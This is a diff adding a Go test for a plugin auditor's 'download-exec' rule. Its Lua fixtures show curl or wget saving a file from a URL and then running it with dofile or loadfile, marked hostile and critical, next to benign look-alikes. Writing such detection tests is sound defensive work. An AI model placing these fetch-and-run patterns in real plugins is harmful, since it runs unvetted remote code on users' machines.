@@ -36,3 +36,19 @@ func TestLuaFetchRun(t *testing.T) {
 		"benign/no-fetch":               {lua("local src = table.concat(vim.fn.readfile(M.path), \"\\n\")\nlocal f = load(src)\nf()"), none},
 	})
 }
+
+// TestLuaFetchSavedFile: a file curl or wget saves (-o path) then run
+// with dofile or loadfile is download-and-execute; a shipped file run
+// beside an unrelated download is not.
+func TestLuaFetchSavedFile(t *testing.T) {
+	crit, none := audit.Critical, audit.SeverityNone
+	lua := func(body string) map[string]string {
+		return map[string]string{"plugin/up.lua": "local M = {}\n" + body + "\nreturn M\n"}
+	}
+	checkRule(t, "download-exec", map[string]systemCase{
+		"hostile/curl-o-dofile":     {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.lua\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\ndofile(path)"), crit},
+		"hostile/wget-O-loadfile":   {lua("local f = os.tmpname()\nos.execute(\"true\")\nio.popen(\"wget -q -O \" .. f .. \" \" .. M.url):close()\nlocal chunk = loadfile(f)\nchunk()"), crit},
+		"benign/shipped-dofile":     {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.json\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\ndofile(vim.fn.stdpath(\"config\") .. \"/lua/defaults.lua\")"), none},
+		"benign/load-saved-as-text": {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.json\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\nlocal f = load(\"return 1\")"), none},
+	})
+}
